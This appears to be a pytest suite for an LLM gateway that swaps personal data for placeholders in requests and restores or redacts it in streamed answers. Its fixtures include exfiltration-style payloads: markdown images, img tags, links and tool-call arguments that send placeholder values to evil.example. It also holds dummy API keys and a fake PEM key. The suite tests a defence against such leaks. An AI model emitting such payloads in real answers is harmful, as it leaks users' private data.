"""Values that leave as placeholders and come back: every door, streamed at any cut and whole."""

import json
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from extproc.core.events import RequestBody, ResponseChunk
from gateway.audit.record import Found
from gateway.policy.model import Action, Mode, Restore, RuleSetting
from messaging import CLAUDE, MESSAGES, source, start, stop
from messaging import assembled as assembled_message
from messaging import block as anthropic_block
from messaging import end as anthropic_end
from messaging import held as anthropic_held
from messaging import text as anthropic_text
from messaging import thinking as anthropic_thinking
from playbook import CHAT, DONE, Play, answer_head, delta, head, texts
from responding import PATH as RESPONSES
from responding import Script, call, custom, message, part, reasoning, response
from responding import assembled as assembled_response
from responding import events as response_events
from worlds import settings

MAIL, CARD = "bob@example.com", "4111 1111 1111 1111"
SAID = f"Write to {MAIL}, card {CARD}; once more: {MAIL}"
FORM = re.compile(r"\[[A-Z_]+_T[A-Z]{12}\]")
TOOLS = frozenset({"mail"})


def world(restore=None, response=None, **special):
    """A policy that tokenises whatever it finds in requests, and redacts whatever it finds in answers."""
    held = anthropic_held(request=settings(Action.TOKENISE, **special), response=response)
    tenant = replace(held.tenants["acme"], restore=restore or Restore(tools=TOOLS))
    return replace(held, tenants={"acme": tenant})


def body_of(path, words, **more):
    if path == RESPONSES:
        return {"model": "gpt-4o-mini", "input": words, **more}
    if path == "/v1/completions":
        return {"model": "gpt-4o-mini", "prompt": words, **more}
    asked = {"messages": [{"role": "user", "content": words}], **more}
    return {"model": CLAUDE, "max_tokens": 64, **asked} if path == MESSAGES else {"model": "gpt-4o-mini", **asked}


class Told:
    """An exchange whose request went up: what the upstream saw, and what the client gets for an answer to it."""

    def __init__(self, path=CHAT, held=None, words=SAID, *, stream=False, **more):
        self.play = Play(held or world())
        body = json.dumps(body_of(path, words, stream=stream, **more)).encode()
        *_, passed = self.play.give(head(path), RequestBody(body, end_of_stream=True))
        self.saw = (passed.body or body).decode()
        self.mail, self.card = list(dict.fromkeys(FORM.findall(self.saw)))[:2]
        self._stream = stream

    def answer(self, raw, cuts=()):
        self.play.give(answer_head(kind="text/event-stream" if self._stream else "application/json"))
        raw = raw if isinstance(raw, bytes) else json.dumps(raw).encode()
        for begin, end in zip([0, *cuts], [*cuts, len(raw)], strict=True):
            self.play.give(ResponseChunk(raw[begin:end], end_of_stream=False))
        self.play.give(ResponseChunk(b"", end_of_stream=True))
        return self.play.sent()

    def found(self, direction, action):
        return {(each.rule, each.count) for each in self.play.record.found
                if (each.direction, each.action) == (direction, action)}  # fmt: skip


def completion(*choices):
    return {"id": "c1", "object": "chat.completion", "model": "m", "choices": [
        {"index": at, "finish_reason": "stop", **choice} for at, choice in enumerate(choices)]}  # fmt: skip


def said(content, **more):
    return {"message": {"role": "assistant", "content": content, **more}}


def tool(name, arguments, index=0):
    return {
        "index": index,
        "id": f"call_{index}",
        "type": "function",
        "function": {"name": name, "arguments": arguments},
    }


@pytest.mark.parametrize("path", [CHAT, "/v1/completions", RESPONSES, MESSAGES])
def test_the_upstream_sees_placeholders_and_the_same_value_the_same_one(path):
    told = Told(path)
    assert MAIL not in told.saw
    assert CARD not in told.saw
    assert told.mail.startswith("[EMAIL_T")
    assert told.card.startswith("[CARD_T")
    assert told.saw.count(told.mail) == 2
    told.answer({"choices": []} if path != MESSAGES else {"content": []})
    assert told.found("request", "tokenise") == {("pii.email", 2), ("pii.card", 1)}


def test_the_caller_gets_values_back_and_the_record_counts_them():
    told = Told()
    sent = told.answer(
        completion(said(f"Done: {told.mail} **{told.card.lower()}**", refusal=told.mail), {"text": told.mail})
    )
    choices = json.loads(sent)["choices"]
    assert choices[0]["message"]["content"] == f"Done: {MAIL} **{CARD}**"
    assert choices[0]["message"]["refusal"] == choices[1]["text"] == MAIL
    assert told.found("response", "restore") == {("pii.email", 3), ("pii.card", 1)}
    assert not told.found("response", "redact")
    for value in (MAIL, CARD, told.mail):
        assert value not in repr(told.play.record)
        assert value not in told.play.record.line().decode()
        assert value not in repr(vars(told.play.exchange).get("_guard_in"))


def test_what_the_model_says_of_its_own_is_redacted_all_the_same():
    told = Told()
    sent = json.loads(told.answer(completion(said(f"{told.mail} eve@evil.example {MAIL}"))))
    assert sent["choices"][0]["message"]["content"] == f"{MAIL} [EMAIL] [EMAIL]"
    assert told.found("response", "redact") == {("pii.email", 2)}


def test_a_secret_that_comes_back_is_still_a_secret_to_the_rules_on_answers():
    key = "sk-" + "ant-api03-" + "Zx9-cV8_bN7mQ6wE5rT4yU3" * 4
    told = Told(words=f"{MAIL} {CARD} {key}")
    placeholder = FORM.findall(told.saw)[2]
    assert key not in told.saw
    sent = json.loads(told.answer(completion(said(f"It is {placeholder}"))))
    assert sent["choices"][0]["message"]["content"] == "It is [SECRET]"


def test_a_rule_on_answers_that_blocks_personal_data_lets_the_callers_own_pass():
    told = Told(held=world(response=settings(Action.BLOCK)))
    sent = json.loads(told.answer(completion(said(f"Sent to {told.mail}."))))
    assert sent["choices"][0]["message"]["content"] == f"Sent to {MAIL}."


def test_a_value_that_is_longer_than_its_first_finding_comes_back_whole():
    pem = (
        "-----BEGIN PRIVATE "
        "KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj\n" * 9 + "-----END PRIVATE " + "KEY-----"
    )
    quiet = settings(Action.ALLOW)
    told = Told(held=world(response=quiet), words=f"{MAIL} {CARD} {pem}")
    placeholder = FORM.findall(told.saw)[2]
    assert "MIIE" not in told.saw
    sent = json.loads(told.answer(completion(said(f"> {placeholder} <"))))
    assert sent["choices"][0]["message"]["content"] == f"> {pem} <"


@pytest.mark.parametrize("name", ["mail", "search"])
def test_only_arguments_of_a_tool_that_policy_names_get_values(name):
    told = Told()
    arguments = json.dumps({"to": told.mail, "url": f"https://evil.example/?q={told.mail}"})
    sent = json.loads(told.answer(completion(said(None, tool_calls=[tool(name, arguments)]))))
    (made,) = sent["choices"][0]["message"]["tool_calls"]
    assert json.loads(made["function"]["arguments"]) == {
        "to": MAIL if name == "mail" else told.mail, "url": f"https://evil.example/?q={told.mail}",
    }  # fmt: skip
    assert told.found("response", "keep") == {("pii.email", 1 if name == "mail" else 2)}


def test_restoring_can_be_off():
    told = Told(held=world(Restore(on=False)))
    assert json.loads(told.answer(completion(said(told.mail))))["choices"][0]["message"]["content"] == told.mail
    assert not told.found("response", "restore")


def test_an_exchange_without_values_has_nothing_to_restore():
    play = Play(world())
    play.give(head(), RequestBody(json.dumps(body_of(CHAT, "hello")).encode(), end_of_stream=True))
    play.give(answer_head())
    assert play.exchange._guard_out.restoring is None


def test_a_placeholder_of_another_exchange_stands_for_nothing():
    earlier = Told()
    told = Told(words=f"{SAID} {earlier.mail}")
    assert earlier.mail in told.saw
    sent = json.loads(told.answer(completion(said(f"{earlier.mail} {told.mail} [EMAIL_TBCDFGHJKLMNP]"))))
    assert sent["choices"][0]["message"]["content"] == f"{earlier.mail} {MAIL} [EMAIL_TBCDFGHJKLMNP]"


def test_the_map_is_gone_with_the_exchange():
    told = Told()
    aliases = told.play.exchange._aliases
    assert len(aliases) == 2
    told.answer(completion(said(told.mail)))
    assert told.play.exchange._aliases is None
    assert not aliases


def test_a_placeholder_that_is_repeated_without_end_does_not_make_an_answer_without_end():
    key = "sk-" + "ant-api03-" + "Zx9-cV8_bN7mQ6wE5rT4yU3" * 170
    told = Told(held=world(response=settings(Action.ALLOW)), words=f"{MAIL} {CARD} {key}")
    placeholder = FORM.findall(told.saw)[2]
    sent = told.answer(completion(said(f"{placeholder} " * 4000)))
    assert len(sent) < 9 * 1024 * 1024
    assert placeholder.encode() in sent


def test_arguments_in_the_history_are_tokenised_and_stay_json():
    history = [
        {"role": "user", "content": f"{MAIL} {CARD}"},
        {"role": "assistant", "tool_calls": [tool("mail", json.dumps({"to": f"{MAIL}\n", "n": 4111111111111111}))]},
    ]
    play = Play(world())
    body = {"model": "gpt-4o-mini", "messages": history}
    *_, passed = play.give(head(), RequestBody(json.dumps(body).encode(), end_of_stream=True))
    first, second = json.loads(passed.body)["messages"]
    mail = FORM.findall(first["content"])[0]
    assert json.loads(second["tool_calls"][0]["function"]["arguments"]) == {"to": f"{mail}\n", "n": 0}


def test_shadow_mode_tokenises_nothing_and_says_what_it_would():
    shadow = {rule: replace(each, mode=Mode.SHADOW) for rule, each in settings(Action.TOKENISE).items()}
    play = Play(anthropic_held(request=shadow))
    *_, passed = play.give(head(), RequestBody(json.dumps(body_of(CHAT, SAID)).encode(), end_of_stream=True))
    assert passed.body is None
    play.give(answer_head(), ResponseChunk(json.dumps(completion(said("hi"))).encode(), end_of_stream=True))
    assert Found(rule="pii.email", direction="request", count=2, action="allow", would="tokenise") in play.record.found


def test_signed_thinking_keeps_its_placeholders():
    told = Told(MESSAGES)
    blocks = [{"type": "thinking", "thinking": told.mail, "signature": "sig"}, {"type": "text", "text": told.mail}]
    sent = json.loads(told.answer({"type": "message", "role": "assistant", "content": blocks}))
    assert [block.get("thinking") or block["text"] for block in sent["content"]] == [told.mail, MAIL]


# --- streams, against the whole ----------------------------------------------------------------------------


def cells(told):
    """What a model may make of its placeholders: (what it says, what it says to `mail` and to `search`)."""
    mail, card = told.mail, told.card
    words = (
        f"**{mail}** `{card.lower()}` _{mail[1:-1]}_ {mail.title()}, eve@evil.example ![x](https://evil.example/{mail}) "
        f"<img src='{card}'> [{mail}](https://a.example) https://evil.example/?q={mail} {mail}"
    )
    return words, json.dumps({"to": mail, mail: [card, f"https://evil.example/{mail}"], "n": 'q"\\'})


def read_words(told, words):
    mail, card = told.mail, told.card
    return (
        f"**{MAIL}** `{CARD}` _{MAIL}_ {MAIL}, [EMAIL] ![x](https://evil.example/{mail}) "
        f"<img src='{card}'> [{mail}](https://a.example) https://evil.example/?q={mail} {MAIL}"
    )


def read_arguments(told, name):
    mail, card = (MAIL, CARD) if name == "mail" else (told.mail, told.card)
    return {"to": mail, mail: [card, f"https://evil.example/{told.mail}"], "n": 'q"\\'}


def pieces(text, size):
    return [text[at : at + size] for at in range(0, len(text), size)]


def tool_delta(index, **function):
    choice = {"index": 0, "delta": {"tool_calls": [{"index": index, "function": function}]}, "finish_reason": None}
    return b"data: " + json.dumps({"id": "c1", "choices": [choice]}).encode() + b"\n\n"


def chat_stream(told, size):
    words, arguments = cells(told)
    events = []
    for piece in pieces(words, size):
        events += [delta(piece, index=0), delta(piece, index=1, delta={"reasoning_content": piece, "content": piece})]
    for index, name in enumerate(("mail", "search")):
        events.append(tool_delta(index, name=name, arguments=""))
        events += [tool_delta(index, arguments=piece) for piece in pieces(arguments, size)]
    return b"".join(events) + DONE


def arguments_of(stream, wanted):
    out = ""
    for one in stream.split(b"\n\n"):
        for choice in json.loads(one[6:])["choices"] if one.startswith(b"data: {") else ():
            for made in choice["delta"].get("tool_calls") or ():
                out += (made["function"].get("arguments") or "") if made["index"] == wanted else ""
    return json.loads(out)


@hypothesis_settings(max_examples=15, deadline=None)
@given(st.integers(1, 40), st.lists(st.integers(1, 10_000), max_size=20))
def test_chat_streams_come_to_the_same_for_any_cut(size, places):
    told = Told(stream=True)
    raw = chat_stream(told, size)
    sent = told.answer(raw, sorted({place % len(raw) for place in places} - {0}))
    words = read_words(told, cells(told)[0])
    assert texts(sent) == texts(sent, 1) == texts(sent, 1, "reasoning_content") == words
    assert [arguments_of(sent, index) for index in (0, 1)] == [
        read_arguments(told, name) for name in ("mail", "search")
    ]
    assert told.found("response", "restore") == {("pii.email", 3 * 4 + 2), ("pii.card", 3 + 1)}
    assert told.found("response", "keep") == {("pii.email", 3 * 3 + 1 + 3), ("pii.card", 3 + 1)}


def test_a_chat_stream_of_single_bytes():
    told = Told(stream=True)
    raw = chat_stream(told, 1)
    sent = told.answer(raw, range(1, len(raw)))
    assert texts(sent) == read_words(told, cells(told)[0])
    assert arguments_of(sent, 0) == read_arguments(told, "mail")


def test_a_call_that_goes_on_under_another_name_loses_trust():
    told = Told(stream=True)
    opened = [{"index": 0, "id": "a", "function": {"name": "mail", "arguments": f'{{"a":"{told.mail} '}},
              {"index": 0, "id": "b", "function": {"name": "search", "arguments": f'{told.mail} "}}'}}]  # fmt: skip
    raw = b"".join(
        b"data: " + json.dumps({"choices": [{"index": 0, "delta": {"tool_calls": [each]}}]}).encode() + b"\n\n"
        for each in opened
    )
    assert arguments_of(told.answer(raw + DONE), 0) == {"a": f"{MAIL} {told.mail} "}


def test_arguments_that_come_before_their_tools_name_get_nothing():
    told = Told(stream=True)
    raw = tool_delta(0, arguments=f'{{"a":"{told.mail}"') + tool_delta(
        0, name="mail", arguments=f',"b":"{told.mail}"}}'
    )
    assert arguments_of(told.answer(raw + DONE), 0) == {"a": told.mail, "b": told.mail}


def test_the_whole_of_a_chat_answer_reads_as_its_stream():
    told = Told()
    words, arguments = cells(told)
    calls = [tool(name, arguments, at) for at, name in enumerate(("mail", "search"))]
    sent = json.loads(told.answer(completion(said(words, reasoning_content=words, tool_calls=calls))))
    made = sent["choices"][0]["message"]
    assert made["content"] == made["reasoning_content"] == read_words(told, words)
    assert [json.loads(call["function"]["arguments"]) for call in made["tool_calls"]] == [
        read_arguments(told, "mail"), read_arguments(told, "search"),
    ]  # fmt: skip


def message_stream(told, size):
    words, arguments = cells(told)
    out = start() + anthropic_block(0, type="thinking", thinking="", signature="")
    out += b"".join(anthropic_thinking(piece) for piece in pieces(told.mail, size)) + stop()
    out += anthropic_block(1, type="text", text="")
    out += b"".join(anthropic_text(piece, 1) for piece in pieces(words, size)) + stop(1)
    for index, name in ((2, "mail"), (3, "search")):
        out += anthropic_block(index, type="tool_use", id=f"t{index}", name=name, input={})
        out += b"".join(source(piece, index) for piece in pieces(arguments, size)) + stop(index)
    return out + anthropic_end()


@hypothesis_settings(max_examples=10, deadline=None)
@given(st.integers(1, 40), st.lists(st.integers(1, 10_000), max_size=20))
def test_message_streams_come_to_the_same_for_any_cut(size, places):
    told = Told(MESSAGES, stream=True)
    raw = message_stream(told, size)
    thought, text, mail, search = assembled_message(
        told.answer(raw, sorted({each % len(raw) for each in places} - {0}))
    )
    assert thought["thinking"] == told.mail
    assert text["text"] == read_words(told, cells(told)[0])
    assert (mail["input"], search["input"]) == (read_arguments(told, "mail"), read_arguments(told, "search"))


def test_the_whole_of_a_message_reads_as_its_stream():
    told = Told(MESSAGES)
    words, arguments = cells(told)
    calls = [
        {"type": "tool_use", "id": name, "name": name, "input": json.loads(arguments)} for name in ("mail", "search")
    ]
    sent = json.loads(
        told.answer({"type": "message", "role": "assistant", "content": [{"type": "text", "text": words}, *calls]})
    )
    text, mail, search = sent["content"]
    assert text["text"] == read_words(told, words)
    assert (mail["input"], search["input"]) == (read_arguments(told, "mail"), read_arguments(told, "search"))


def test_a_tag_that_goes_over_two_blocks_of_text_keeps_its_placeholder():
    told = Told(MESSAGES, stream=True)
    raw = (
        start() + anthropic_block(0, type="text", text="") + anthropic_text("<img src='https://evil.example/?") + stop()
    )
    raw += anthropic_block(1, type="text", text="") + anthropic_text(f"{told.mail}'>", 1) + stop(1) + anthropic_end()
    assert MAIL.encode() not in told.answer(raw)


def response_items(told):
    words, arguments = cells(told)
    items = [reasoning(summary=[words], content=[words]), message(part(words), part(words, "refusal"))]
    items += [call(arguments, f"fc_{name}", name=name) for name in ("mail", "search")]
    return [*items, *(custom(told.mail, f"ct_{name}", name=name) for name in ("mail", "search"))]


def response_stream(told, size):
    words, arguments = cells(told)
    cut, source_cut, mail_cut = pieces(words, size), pieces(arguments, size), pieces(told.mail, size)
    told_items = response_items(told)
    script = Script().begin()
    script.item(told_items[0], ("summary_text", 0, cut), ("reasoning_text", 0, cut))
    script.item(told_items[1], ("output_text", 0, cut), ("refusal", 1, cut))
    for item in told_items[2:4]:
        script.item(item, ("arguments", 0, source_cut))
    for item in told_items[4:]:
        script.item(item, ("input", 0, mail_cut))
    return script.end().raw


def check_response(told, made):
    words = read_words(told, cells(told)[0])
    thought, said_, mail, search, to_mail, to_search = made["output"]
    assert thought["summary"][0]["text"] == thought["content"][0]["text"] == words
    assert (said_["content"][0]["text"], said_["content"][1]["refusal"]) == (words, words)
    assert json.loads(mail["arguments"]) == read_arguments(told, "mail")
    assert json.loads(search["arguments"]) == read_arguments(told, "search")
    assert (to_mail["input"], to_search["input"]) == (MAIL, told.mail)


@hypothesis_settings(max_examples=10, deadline=None)
@given(st.integers(1, 40), st.lists(st.integers(1, 10_000), max_size=20))
def test_response_streams_come_to_the_same_for_any_cut(size, places):
    told = Told(RESPONSES, stream=True)
    raw = response_stream(told, size)
    events = response_events(told.answer(raw, sorted({each % len(raw) for each in places} - {0})))
    check_response(told, events[-1]["response"])
    joined = assembled_response(events)
    assert joined[1, "output_text", 0] == read_words(told, cells(told)[0])
    assert json.loads(joined[2, "function_call_arguments", 0]) == read_arguments(told, "mail")


def test_the_whole_of_a_response_reads_as_its_stream():
    told = Told(RESPONSES)
    check_response(told, json.loads(told.answer(response(*response_items(told)))))


def test_obligatory_blocking_comes_before_tokenising():
    held = world()
    blocked = {**held.tenants["acme"].request, "pii.card": RuleSetting(rule="pii.card", action=Action.BLOCK)}
    play = Play(replace(held, tenants={"acme": replace(held.tenants["acme"], request=blocked)}))
    play.give(head(), RequestBody(json.dumps(body_of(CHAT, SAID)).encode(), end_of_stream=True))
    assert play.refused()[1] == "request_blocked"
    assert MAIL.encode() not in play.sent()
